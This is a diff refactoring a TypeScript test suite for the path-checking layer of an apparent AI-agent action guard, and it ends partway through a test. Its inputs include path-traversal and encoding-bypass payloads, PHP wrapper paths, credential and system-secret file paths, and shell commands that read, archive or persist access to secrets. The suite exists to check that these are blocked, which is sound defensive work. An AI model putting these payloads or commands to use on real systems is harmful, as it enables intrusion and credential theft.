@@ -2,15 +2,16 @@ import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import pathData from "../../data/path.json" with { type: "json" };
 import { createPathLayer } from "../../layers/path.js";
-import type { Layer } from "../../layers/types.js";
 import type { ProtectRequest } from "../../src/pipeline/facts.js";
-import { checkLayer, codesOf, pipeline, verdictOf } from "../helpers/layer-harness.js";
+import {
+  checkLayer,
+  expectCode,
+  expectLayerVerdict,
+  layerNamed,
+  verdictOf,
+} from "../helpers/layer-harness.js";
 
-function layer(): Layer {
-  const found = pipeline().layers.find((l) => l.name === "path");
-  assert.ok(found, "the registry has a path layer");
-  return found;
-}
+const layer = layerNamed("path");
 
 function read(target: string): ProtectRequest {
   return { action: "read_file", target };
@@ -24,31 +25,6 @@ function fetch(url: string): ProtectRequest {
   return { action: "http_request", target: url };
 }
 
-/** The strongest severity the path layer gives a request, after the default thresholds. */
-function severityOf(request: ProtectRequest): "BLOCK" | "WARN" | "ALLOW" {
-  const findings = checkLayer(layer(), request);
-  if (findings.some((f) => f.severity === "BLOCK" && f.confidence >= 0.5)) return "BLOCK";
-  if (findings.some((f) => f.confidence >= 0.3)) return "WARN";
-  return "ALLOW";
-}
-
-function expectCode(request: ProtectRequest, code: string): void {
-  const codes = codesOf(layer(), request);
-  assert.ok(
-    codes.includes(code),
-    `expected ${code} for ${JSON.stringify(request)}, got [${codes}]`,
-  );
-}
-
-function expectSeverity(request: ProtectRequest, expected: "BLOCK" | "WARN" | "ALLOW"): void {
-  const findings = checkLayer(layer(), request);
-  assert.equal(
-    severityOf(request),
-    expected,
-    `${JSON.stringify(request)} → ${JSON.stringify(findings.map((f) => [f.code, f.severity]))}`,
-  );
-}
-
 describe("layer > path", () => {
   test("is built from its data file and rejects a bad pattern at start-up", () => {
     assert.equal(createPathLayer(pathData).name, "path");
@@ -59,14 +35,18 @@ describe("layer > path", () => {
 
   describe("traversal", () => {
     test("BLOCKs plain ../ that climbs out of the starting directory", () => {
-      expectCode(read("uploads/../../../../srv/data/orders.db"), "PATH_TRAVERSAL");
-      expectCode(read("..\\..\\..\\Windows\\System32\\drivers\\etc\\networks"), "PATH_TRAVERSAL");
-      expectSeverity(read("/../../../"), "BLOCK");
+      expectCode(layer, read("uploads/../../../../srv/data/orders.db"), "PATH_TRAVERSAL");
+      expectCode(
+        layer,
+        read("..\\..\\..\\Windows\\System32\\drivers\\etc\\networks"),
+        "PATH_TRAVERSAL",
+      );
+      expectLayerVerdict(layer, read("/../../../"), "BLOCK");
     });
 
     test("BLOCKs traversal that lands on a system location without leaving the path", () => {
-      expectCode(read("/srv/www/public/../../../etc/group"), "PATH_TRAVERSAL_SYSTEM");
-      expectCode(read("assets/img/../win.ini"), "PATH_TRAVERSAL_SYSTEM");
+      expectCode(layer, read("/srv/www/public/../../../etc/group"), "PATH_TRAVERSAL_SYSTEM");
+      expectCode(layer, read("assets/img/../win.ini"), "PATH_TRAVERSAL_SYSTEM");
     });
 
     test("BLOCKs percent-encoded and double-encoded dots and slashes", () => {
@@ -77,71 +57,93 @@ describe("layer > path", () => {
         ".%2e/.%2e/etc/fstab",
         "..%255c..%255cboot.ini",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
-      expectCode(read("resources/%2e%2e%2fconfig%2fapp.yml"), "PATH_TRAVERSAL_ENCODED");
+      expectCode(layer, read("resources/%2e%2e%2fconfig%2fapp.yml"), "PATH_TRAVERSAL_ENCODED");
     });
 
     test("BLOCKs overlong UTF-8 and Unicode slash look-alikes", () => {
-      expectCode(read("media/..%c0%af..%c0%afetc%c0%afgroup"), "PATH_MALFORMED_ENCODING");
-      expectCode(read("..%e0%80%af..%e0%80%afetc%e0%80%afgroup"), "PATH_MALFORMED_ENCODING");
-      expectCode(read("..%u2216..%u2216windows%u2216win.ini"), "PATH_TRAVERSAL_ENCODED");
+      expectCode(layer, read("media/..%c0%af..%c0%afetc%c0%afgroup"), "PATH_MALFORMED_ENCODING");
+      expectCode(layer, read("..%e0%80%af..%e0%80%afetc%e0%80%afgroup"), "PATH_MALFORMED_ENCODING");
+      expectCode(layer, read("..%u2216..%u2216windows%u2216win.ini"), "PATH_TRAVERSAL_ENCODED");
       expectCode(
+        layer,
         read("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215group"),
         "PATH_TRAVERSAL_ENCODED",
       );
     });
 
     test("BLOCKs HTML-entity, \\x and 0x spellings of the dots", () => {
-      expectCode(read("&#46;&#46;/&#46;&#46;/etc/group"), "PATH_TRAVERSAL_ENCODED");
-      expectCode(read("\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fgroup"), "PATH_TRAVERSAL_ENCODED");
-      expectSeverity(read("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fgroup"), "BLOCK");
+      expectCode(layer, read("&#46;&#46;/&#46;&#46;/etc/group"), "PATH_TRAVERSAL_ENCODED");
+      expectCode(
+        layer,
+        read("\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fgroup"),
+        "PATH_TRAVERSAL_ENCODED",
+      );
+      expectLayerVerdict(layer, read("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fgroup"), "BLOCK");
     });
 
     test("BLOCKs filter-bypass forms: ....//, .../, ..;/ and wildcard dots", () => {
-      expectCode(read("files/....//....//....//etc/hostname"), "PATH_TRAVERSAL_BYPASS");
-      expectCode(read("files/...//...//etc/motd"), "PATH_TRAVERSAL_BYPASS");
-      expectCode(read("app/..;/..;/WEB-INF/web.xml"), "PATH_TRAVERSAL_BYPASS");
-      expectSeverity(read("..././..././etc/hostname"), "BLOCK");
+      expectCode(layer, read("files/....//....//....//etc/hostname"), "PATH_TRAVERSAL_BYPASS");
+      expectCode(layer, read("files/...//...//etc/motd"), "PATH_TRAVERSAL_BYPASS");
+      expectCode(layer, read("app/..;/..;/WEB-INF/web.xml"), "PATH_TRAVERSAL_BYPASS");
+      expectLayerVerdict(layer, read("..././..././etc/hostname"), "BLOCK");
     });
 
     test("BLOCKs a NUL byte that truncates an enforced suffix", () => {
-      expectCode(read("../../../etc/group%00.png"), "PATH_NULL_BYTE");
-      expectCode(read("avatars/me.php%00.jpg"), "PATH_NULL_BYTE");
+      expectCode(layer, read("../../../etc/group%00.png"), "PATH_NULL_BYTE");
+      expectCode(layer, read("avatars/me.php%00.jpg"), "PATH_NULL_BYTE");
     });
 
     test("BLOCKs an NTFS alternate data stream suffix", () => {
-      expectCode(read("site/default.aspx::$DATA"), "PATH_ALTERNATE_DATA_STREAM");
+      expectCode(layer, read("site/default.aspx::$DATA"), "PATH_ALTERNATE_DATA_STREAM");
     });
 
     test("BLOCKs PHP stream wrappers used as a path", () => {
-      expectCode(read("php://filter/convert.base64-encode/resource=index.php"), "PATH_LFI_WRAPPER");
       expectCode(
+        layer,
+        read("php://filter/convert.base64-encode/resource=index.php"),
+        "PATH_LFI_WRAPPER",
+      );
+      expectCode(
+        layer,
         fetch("https://shop.example.com/?page=phar:///tmp/upload.jpg/x"),
         "PATH_LFI_WRAPPER",
       );
     });
 
     test("BLOCKs traversal in URL paths and query parameters of HTTP actions", () => {
-      expectCode(fetch("http://shop.example.com/../../../../etc/group"), "PATH_TRAVERSAL");
+      expectCode(layer, fetch("http://shop.example.com/../../../../etc/group"), "PATH_TRAVERSAL");
       expectCode(
+        layer,
         fetch("https://shop.example.com/static/%2e%2e/%2e%2e/etc/group"),
         "PATH_TRAVERSAL_ENCODED",
       );
       expectCode(
+        layer,
         fetch("https://shop.example.com/download?name=..%2f..%2f..%2fetc%2fgroup"),
         "PATH_TRAVERSAL_ENCODED",
       );
-      expectCode(fetch("https://shop.example.com/get?f=..\\..\\..\\boot.ini"), "PATH_TRAVERSAL");
-      expectCode(fetch("https://shop.example.com/app/..;/manager/html"), "PATH_TRAVERSAL_BYPASS");
+      expectCode(
+        layer,
+        fetch("https://shop.example.com/get?f=..\\..\\..\\boot.ini"),
+        "PATH_TRAVERSAL",
+      );
+      expectCode(
+        layer,
+        fetch("https://shop.example.com/app/..;/manager/html"),
+        "PATH_TRAVERSAL_BYPASS",
+      );
     });
 
     test("BLOCKs traversal in path parameters of any tool", () => {
       expectCode(
+        layer,
         { action: "get_document", params: { filename: "../../../../home/app/.profile" } },
         "PATH_TRAVERSAL",
       );
       expectCode(
+        layer,
         {
           action: "http_request",
           target: "https://api.example.com/f",
@@ -153,16 +155,20 @@ describe("layer > path", () => {
 
     test("only WARNs when a non-file tool argument climbs a level or two to an ordinary file", () => {
       const request = { action: "load_dataset", params: { path: "../data/train.csv" } };
-      expectSeverity(request, "WARN");
-      expectCode(request, "PATH_TRAVERSAL_RELATIVE");
-      expectSeverity(read("../data/train.csv"), "BLOCK");
-      expectSeverity({ action: "load_dataset", params: { path: "../../../etc/group" } }, "BLOCK");
+      expectLayerVerdict(layer, request, "WARN");
+      expectCode(layer, request, "PATH_TRAVERSAL_RELATIVE");
+      expectLayerVerdict(layer, read("../data/train.csv"), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        { action: "load_dataset", params: { path: "../../../etc/group" } },
+        "BLOCK",
+      );
     });
 
     test("BLOCKs traversal hidden in base64", () => {
       // "../../../etc/group" in base64, as a parameter of an unknown tool.
       const hidden = Buffer.from("../../../etc/group").toString("base64");
-      expectSeverity({ action: "load_template", params: { blob: hidden } }, "BLOCK");
+      expectLayerVerdict(layer, { action: "load_template", params: { blob: hidden } }, "BLOCK");
     });
   });
 
@@ -177,29 +183,30 @@ describe("layer > path", () => {
         "/etc/sudoers.d/90-cloud-init-users",
         "/private/var/db/shadow/hash/ABCD",
       ]) {
-        expectCode(read(target), "SENSITIVE_FILE_ACCOUNTS");
+        expectCode(layer, read(target), "SENSITIVE_FILE_ACCOUNTS");
       }
     });
 
     test("BLOCKs SSH private keys, authorized_keys and host keys but not public keys", () => {
-      expectCode(read("/home/deploy/.ssh/id_ed25519"), "SENSITIVE_FILE_SSH");
-      expectCode(read("/root/.ssh/authorized_keys"), "SENSITIVE_FILE_SSH");
-      expectCode(read("/etc/ssh/ssh_host_rsa_key"), "SENSITIVE_FILE_SSH");
-      expectCode(read("backup/keys/id_rsa"), "SENSITIVE_FILE_SSH");
-      expectSeverity(read("/home/deploy/.ssh/id_ed25519.pub"), "ALLOW");
+      expectCode(layer, read("/home/deploy/.ssh/id_ed25519"), "SENSITIVE_FILE_SSH");
+      expectCode(layer, read("/root/.ssh/authorized_keys"), "SENSITIVE_FILE_SSH");
+      expectCode(layer, read("/etc/ssh/ssh_host_rsa_key"), "SENSITIVE_FILE_SSH");
+      expectCode(layer, read("backup/keys/id_rsa"), "SENSITIVE_FILE_SSH");
+      expectLayerVerdict(layer, read("/home/deploy/.ssh/id_ed25519.pub"), "ALLOW");
     });
 
     test("BLOCKs shell histories and per-process files", () => {
-      expectCode(read("/home/u/.zsh_history"), "SENSITIVE_FILE_HISTORY");
+      expectCode(layer, read("/home/u/.zsh_history"), "SENSITIVE_FILE_HISTORY");
       expectCode(
+        layer,
         read(
           "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
         ),
         "SENSITIVE_FILE_HISTORY",
       );
-      expectCode(read("/proc/self/environ"), "SENSITIVE_FILE_PROC");
-      expectCode(read("/proc/1/cmdline"), "SENSITIVE_FILE_PROC");
-      expectCode(read("/proc/self/fd/7"), "SENSITIVE_FILE_PROC");
+      expectCode(layer, read("/proc/self/environ"), "SENSITIVE_FILE_PROC");
+      expectCode(layer, read("/proc/1/cmdline"), "SENSITIVE_FILE_PROC");
+      expectCode(layer, read("/proc/self/fd/7"), "SENSITIVE_FILE_PROC");
     });
 
     test("BLOCKs cloud, cluster and registry credentials", () => {
@@ -211,35 +218,43 @@ describe("layer > path", () => {
         "/var/run/secrets/kubernetes.io/serviceaccount/token",
         "/root/.docker/config.json",
       ]) {
-        expectCode(read(target), "SENSITIVE_FILE_CLOUD_CREDENTIALS");
+        expectCode(layer, read(target), "SENSITIVE_FILE_CLOUD_CREDENTIALS");
       }
     });
 
     test("BLOCKs stored login credentials and web application secrets", () => {
-      expectCode(read("$HOME/.netrc"), "SENSITIVE_FILE_CREDENTIAL_STORE");
-      expectCode(read("/var/lib/postgresql/.pgpass"), "SENSITIVE_FILE_CREDENTIAL_STORE");
-      expectCode(read("/home/u/.git-credentials"), "SENSITIVE_FILE_CREDENTIAL_STORE");
-      expectCode(read("members/.htpasswd"), "SENSITIVE_FILE_CREDENTIAL_STORE");
-      expectCode(read("/var/www/wordpress/wp-config.php.bak"), "SENSITIVE_FILE_APP_SECRETS");
-      expectCode(read("C:/inetpub/wwwroot/web.config"), "SENSITIVE_FILE_APP_SECRETS");
-      expectCode(read("/etc/mysql/my.cnf"), "SENSITIVE_FILE_APP_SECRETS");
+      expectCode(layer, read("$HOME/.netrc"), "SENSITIVE_FILE_CREDENTIAL_STORE");
+      expectCode(layer, read("/var/lib/postgresql/.pgpass"), "SENSITIVE_FILE_CREDENTIAL_STORE");
+      expectCode(layer, read("/home/u/.git-credentials"), "SENSITIVE_FILE_CREDENTIAL_STORE");
+      expectCode(layer, read("members/.htpasswd"), "SENSITIVE_FILE_CREDENTIAL_STORE");
+      expectCode(layer, read("/var/www/wordpress/wp-config.php.bak"), "SENSITIVE_FILE_APP_SECRETS");
+      expectCode(layer, read("C:/inetpub/wwwroot/web.config"), "SENSITIVE_FILE_APP_SECRETS");
+      expectCode(layer, read("/etc/mysql/my.cnf"), "SENSITIVE_FILE_APP_SECRETS");
     });
 
     test("BLOCKs Windows hives, NTDS.dit and deployment answer files", () => {
-      expectCode(read("C:\\Windows\\System32\\config\\SAM"), "SENSITIVE_FILE_WINDOWS_SECRETS");
-      expectCode(read("C:/windows/repair/security"), "SENSITIVE_FILE_WINDOWS_SECRETS");
-      expectCode(read("C:\\Windows\\NTDS\\ntds.dit"), "SENSITIVE_FILE_WINDOWS_SECRETS");
-      expectCode(read("C:\\Windows\\Panther\\Unattend.xml"), "SENSITIVE_FILE_WINDOWS_SECRETS");
-      expectCode(read("C:/sysprep/sysprep.inf"), "SENSITIVE_FILE_WINDOWS_SECRETS");
+      expectCode(
+        layer,
+        read("C:\\Windows\\System32\\config\\SAM"),
+        "SENSITIVE_FILE_WINDOWS_SECRETS",
+      );
+      expectCode(layer, read("C:/windows/repair/security"), "SENSITIVE_FILE_WINDOWS_SECRETS");
+      expectCode(layer, read("C:\\Windows\\NTDS\\ntds.dit"), "SENSITIVE_FILE_WINDOWS_SECRETS");
+      expectCode(
+        layer,
+        read("C:\\Windows\\Panther\\Unattend.xml"),
+        "SENSITIVE_FILE_WINDOWS_SECRETS",
+      );
+      expectCode(layer, read("C:/sysprep/sysprep.inf"), "SENSITIVE_FILE_WINDOWS_SECRETS");
     });
 
     test("matches the canonical path, whatever its spelling", () => {
-      expectCode(read("/./././etc/./shadow"), "SENSITIVE_FILE_ACCOUNTS");
-      expectCode(read("/var/www/html/../../../etc//shadow"), "SENSITIVE_FILE_ACCOUNTS");
-      expectCode(read("/ETC/SHADOW"), "SENSITIVE_FILE_ACCOUNTS");
-      expectCode(read("../../../../etc/passwd%00.html"), "SENSITIVE_FILE_ACCOUNTS");
-      expectCode(read("../../../etc/passwd;index.html"), "SENSITIVE_FILE_ACCOUNTS");
-      expectCode(read("C:\\inetpub\\wwwroot\\web.config."), "SENSITIVE_FILE_APP_SECRETS");
+      expectCode(layer, read("/./././etc/./shadow"), "SENSITIVE_FILE_ACCOUNTS");
+      expectCode(layer, read("/var/www/html/../../../etc//shadow"), "SENSITIVE_FILE_ACCOUNTS");
+      expectCode(layer, read("/ETC/SHADOW"), "SENSITIVE_FILE_ACCOUNTS");
+      expectCode(layer, read("../../../../etc/passwd%00.html"), "SENSITIVE_FILE_ACCOUNTS");
+      expectCode(layer, read("../../../etc/passwd;index.html"), "SENSITIVE_FILE_ACCOUNTS");
+      expectCode(layer, read("C:\\inetpub\\wwwroot\\web.config."), "SENSITIVE_FILE_APP_SECRETS");
     });
 
     test("WARNs on dev secrets a project may legitimately hold", () => {
@@ -251,8 +266,8 @@ describe("layer > path", () => {
         "config/database.yml",
         "config/credentials.json",
       ]) {
-        expectSeverity(read(target), "WARN");
-        expectCode(read(target), "SENSITIVE_FILE_DEV_SECRETS");
+        expectLayerVerdict(layer, read(target), "WARN");
+        expectCode(layer, read(target), "SENSITIVE_FILE_DEV_SECRETS");
       }
     });
 
@@ -264,22 +279,28 @@ describe("layer > path", () => {
         "tests/fixtures/credentials.json",
         "fake_secrets.json",
       ]) {
-        expectSeverity(read(target), "ALLOW");
+        expectLayerVerdict(layer, read(target), "ALLOW");
       }
     });
 
     test("BLOCKs writing scheduler and boot files, WARNs on shell start-up files", () => {
       expectCode(
+        layer,
         { action: "write_file", target: "/etc/cron.d/sync", content: "* * * * * root sh /tmp/x" },
         "SENSITIVE_FILE_PERSISTENCE",
       );
-      expectSeverity({ action: "write_file", target: "/etc/ld.so.preload", content: "x" }, "BLOCK");
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
+        { action: "write_file", target: "/etc/ld.so.preload", content: "x" },
+        "BLOCK",
+      );
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: "/home/u/.bashrc", content: "export PATH=$PATH:/opt/bin" },
         "WARN",
       );
-      expectSeverity(read("/home/u/.bashrc"), "ALLOW");
-      expectSeverity(read("/etc/crontab"), "ALLOW");
+      expectLayerVerdict(layer, read("/home/u/.bashrc"), "ALLOW");
+      expectLayerVerdict(layer, read("/etc/crontab"), "ALLOW");
     });
 
     test("BLOCKs shell commands that read, copy or encode a sensitive file", () => {
@@ -294,25 +315,27 @@ describe("layer > path", () => {
         "while read l; do echo $l; done < /etc/shadow",
         "ls /tmp && strings /proc/self/environ",
       ]) {
-        expectSeverity(shell(command), "BLOCK");
+        expectLayerVerdict(layer, shell(command), "BLOCK");
       }
     });
 
     test("BLOCKs dumping a credential hive with reg save", () => {
-      expectCode(shell("reg save HKLM\\SAM C:\\temp\\sam.save"), "SENSITIVE_FILE_HIVE_DUMP");
+      expectCode(layer, shell("reg save HKLM\\SAM C:\\temp\\sam.save"), "SENSITIVE_FILE_HIVE_DUMP");
     });
 
     test("WARNs when a shell command reads a dev secret", () => {
-      expectSeverity(shell("cat .env"), "WARN");
-      expectSeverity(shell("grep DATABASE_URL .env.local"), "WARN");
+      expectLayerVerdict(layer, shell("cat .env"), "WARN");
+      expectLayerVerdict(layer, shell("grep DATABASE_URL .env.local"), "WARN");
     });
 
     test("BLOCKs code that opens a credential or system-secret file", () => {
       expectCode(
+        layer,
         { action: "code_exec", content: "print(open('/proc/self/environ').read())" },
         "SENSITIVE_FILE_PROC",
       );
       expectCode(
+        layer,
         {
           action: "code_exec",
           content: "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')",
@@ -323,18 +346,19 @@ describe("layer > path", () => {
 
     test("BLOCKs a sensitive file named in a query parameter or a file: URL", () => {
       expectCode(
+        layer,
         fetch("https://shop.example.com/view?file=/etc/shadow"),
         "SENSITIVE_FILE_ACCOUNTS",
       );
-      expectCode(fetch("file:///root/.ssh/id_rsa"), "SENSITIVE_FILE_SSH");
+      expectCode(layer, fetch("file:///root/.ssh/id_rsa"), "SENSITIVE_FILE_SSH");
     });
   });
 
   describe("hard look-alikes stay ALLOW", () => {
     test("relative paths that stay inside their directory", () => {
-      expectSeverity(read("src/../README.md"), "ALLOW");
-      expectSeverity(read("docs/guide/../api/index.md"), "ALLOW");
-      expectSeverity(read("/home/u/proj/node_modules/.bin/../lib/cli.js"), "ALLOW");
+      expectLayerVerdict(layer, read("src/../README.md"), "ALLOW");
+      expectLayerVerdict(layer, read("docs/guide/../api/index.md"), "ALLOW");
+      expectLayerVerdict(layer, read("/home/u/proj/node_modules/.bin/../lib/cli.js"), "ALLOW");
     });
 
     test("ordinary configuration, logs and public keys", () => {
@@ -348,7 +372,7 @@ describe("layer > path", () => {
         "docs/security/passwd-file-format.md",
         "notes..txt",
       ]) {
-        expectSeverity(read(target), "ALLOW");
+        expectLayerVerdict(layer, read(target), "ALLOW");
       }
     });
 
@@ -364,16 +388,18 @@ describe("layer > path", () => {
         "find / -name passwd -type f 2>/dev/null",
         "grep -rn password docs/",
       ]) {
-        expectSeverity(shell(command), "ALLOW");
+        expectLayerVerdict(layer, shell(command), "ALLOW");
       }
     });
 
     test("prose that mentions /etc/passwd or ../ sequences", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "llm_prompt", content: "Why is reading /etc/shadow through ../../ dangerous?" },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "write_file",
           target: "docs/hardening.md",
@@ -381,7 +407,8 @@ describe("layer > path", () => {
         },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "tool_output", content: "The file ~/.aws/credentials holds the keys." },
         "ALLOW",
       );
@@ -396,12 +423,13 @@ describe("layer > path", () => {
         "https://example.com/books?range=1..10",
         "https://man7.org/linux/man-pages/man5/passwd.5.html",
       ]) {
-        expectSeverity(fetch(url), "ALLOW");
+        expectLayerVerdict(layer, fetch(url), "ALLOW");
       }
     });
 
     test("code that loads a .env the usual way", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "code_exec", content: "from dotenv import load_dotenv\nload_dotenv('.env')" },
         "ALLOW",
       );
@@ -418,7 +446,7 @@ describe("layer > path", () => {
         "/home/ana/.mozilla/firefox/q1w2.default/cookies.sqlite",
         "/Users/ana/Library/Cookies/Cookies.binarycookies",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
@@ -430,7 +458,7 @@ describe("layer > path", () => {
         "/home/ana/.config/solana/id.json",
         "/Users/ana/Library/Keychains/login.keychain-db",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
@@ -441,7 +469,7 @@ describe("layer > path", () => {
         "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys\\abc_123",
         "D:\\admin\\servers.rdg",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
@@ -459,7 +487,7 @@ describe("layer > path", () => {
         "/etc/letsencrypt/live/shop.example.org/privkey.pem",
         "/tmp/krb5cc_1000",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
@@ -477,14 +505,14 @@ describe("layer > path", () => {
         "secret-tool lookup service smtp",
         "bw export --format json",
       ]) {
-        expectSeverity(shell(command), "BLOCK");
+        expectLayerVerdict(layer, shell(command), "BLOCK");
       }
     });
 
     test("BLOCKs archiving or copying a whole credential directory", () => {
-      expectSeverity(shell("tar czf /tmp/b.tgz ~/.gnupg"), "BLOCK");
-      expectSeverity(shell("zip -qr /tmp/k.zip /home/ana/.aws"), "BLOCK");
-      expectSeverity(shell("ls -la ~/.ssh && chmod 700 ~/.ssh"), "ALLOW");
+      expectLayerVerdict(layer, shell("tar czf /tmp/b.tgz ~/.gnupg"), "BLOCK");
+      expectLayerVerdict(layer, shell("zip -qr /tmp/k.zip /home/ana/.aws"), "BLOCK");
+      expectLayerVerdict(layer, shell("ls -la ~/.ssh && chmod 700 ~/.ssh"), "ALLOW");
     });
 
     test("ALLOWs harmless keychain and keyring commands", () => {
@@ -495,7 +523,7 @@ describe("layer > path", () => {
         "netsh wlan show profiles",
         "git credential-cache exit",
       ]) {
-        expectSeverity(shell(command), "ALLOW");
+        expectLayerVerdict(layer, shell(command), "ALLOW");
       }
     });
   });
@@ -509,7 +537,7 @@ describe("layer > path", () => {
         `cat\${IFS}/etc/shadow`,
         "tail$IFS$9/root/.ssh/id_rsa",
       ]) {
-        expectSeverity(shell(command), "BLOCK");
+        expectLayerVerdict(layer, shell(command), "BLOCK");
       }
     });
 
@@ -521,10 +549,10 @@ describe("layer > path", () => {
         "cat /proc/*/environ",
         "less /etc/{hostname,shadow}",
       ]) {
-        expectSeverity(shell(command), "BLOCK");
+        expectLayerVerdict(layer, shell(command), "BLOCK");
       }
-      expectSeverity(shell("cat /etc/*-release"), "ALLOW");
-      expectSeverity(shell("head -n 5 logs/*.log"), "ALLOW");
+      expectLayerVerdict(layer, shell("cat /etc/*-release"), "ALLOW");
+      expectLayerVerdict(layer, shell("head -n 5 logs/*.log"), "ALLOW");
     });
 
     test("BLOCKs a secret read inside a command handed to another shell or interpreter", () => {
@@ -535,14 +563,19 @@ describe("layer > path", () => {
         'powershell -c "Get-Content $env:USERPROFILE\\.aws\\credentials"',
         "powershell -c \"[IO.File]::ReadAllText('C:\\Users\\a\\.ssh\\id_rsa')\"",
       ]) {
-        expectSeverity(shell(command), "BLOCK");
+        expectLayerVerdict(layer, shell(command), "BLOCK");
       }
-      expectSeverity(shell("bash -c 'npm ci && npm test'"), "ALLOW");
-      expectSeverity(shell("ssh -i ~/.ssh/id_ed25519 deploy@build.example.org uptime"), "ALLOW");
+      expectLayerVerdict(layer, shell("bash -c 'npm ci && npm test'"), "ALLOW");
+      expectLayerVerdict(
+        layer,
+        shell("ssh -i ~/.ssh/id_ed25519 deploy@build.example.org uptime"),
+        "ALLOW",
+      );
     });
 
     test("BLOCKs code that joins the pieces of a credential path", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "code_exec",
           content:
@@ -550,14 +583,16 @@ describe("layer > path", () => {
         },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "code_exec",
           content: "print((Path.home() / '.ssh' / 'id_ed25519').read_text())",
         },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "code_exec",
           content: "print((Path.home() / '.ssh' / 'id_ed25519.pub').read_text())",
@@ -569,17 +604,26 @@ describe("layer > path", () => {
 
   describe("writes", () => {
     test("BLOCKs a shell redirection, tee or copy into a persistence file", () => {
-      expectSeverity(shell("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"), "BLOCK");
-      expectSeverity(shell("echo '* * * * * root sh /tmp/x' | tee -a /etc/crontab"), "BLOCK");
-      expectSeverity(shell("cp /tmp/u.sh /etc/cron.d/u"), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        shell("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
+        "BLOCK",
+      );
+      expectLayerVerdict(
+        layer,
+        shell("echo '* * * * * root sh /tmp/x' | tee -a /etc/crontab"),
+        "BLOCK",
+      );
+      expectLayerVerdict(layer, shell("cp /tmp/u.sh /etc/cron.d/u"), "BLOCK");
     });
 
     test("does not flag a PATH export appended to a shell start-up file", () => {
-      expectSeverity(shell("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"), "ALLOW");
+      expectLayerVerdict(layer, shell("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"), "ALLOW");
     });
 
     test("BLOCKs a download or save into a start-up folder through any tool", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "save_attachment",
           params: {
@@ -589,7 +633,8 @@ describe("layer > path", () => {
         },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "fetch_to_disk",
           params: { url: "https://x.example.org/a", output_path: "/etc/profile.d/a.sh" },
@@ -605,16 +650,18 @@ describe("layer > path", () => {
         [".env.production", `API_URL=\${API_URL}\nDEBUG=false\n`],
         ["config/secrets.yml", "shared:\n  api_key: {{ vault_api_key }}\n"],
       ]) {
-        expectSeverity({ action: "write_file", target, content }, "ALLOW");
+        expectLayerVerdict(layer, { action: "write_file", target, content }, "ALLOW");
       }
     });
 
     test("WARNs on writing a literal secret into a secrets file", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: ".env", content: "STRIPE_KEY=rk_live_51abcdef\n" },
         "WARN",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "write_file",
           target: "config/database.yml",
@@ -625,11 +672,13 @@ describe("layer > path", () => {
     });
 
     test("reads the source of a copy as a read", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "copy_file", params: { src: "deploy/.env", dst: "public/env.txt" } },
         "WARN",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "copy_file", params: { src: ".env.example", dst: ".env" } },
         "ALLOW",
       );
@@ -639,7 +688,7 @@ describe("layer > path", () => {
   describe("environment files by stage", () => {
     test("WARNs on .env files of any stage, test and testing included", () => {
       for (const target of ["api/.env.test", ".env.testing", "web/.env.staging", ".env.ci"]) {
-        expectSeverity(read(target), "WARN");
+        expectLayerVerdict(layer, read(target), "WARN");
       }
     });
 
@@ -650,7 +699,7 @@ describe("layer > path", () => {
         "tests/fixtures/.env",
         ".env.test.example",
       ]) {
-        expectSeverity(read(target), "ALLOW");
+        expectLayerVerdict(layer, read(target), "ALLOW");
       }
     });
   });
@@ -658,21 +707,25 @@ describe("layer > path", () => {
   describe("archives", () => {
     test("BLOCKs entries that climb out of or ignore the extraction directory (zip slip)", () => {
       expectCode(
+        layer,
         { action: "extract_archive", params: { dest: "plugins", entries: ["p/a.py", "../a.py"] } },
         "PATH_ARCHIVE_ENTRY",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "unzip_file", params: { archive: "x.zip", members: ["/etc/cron.d/job"] } },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
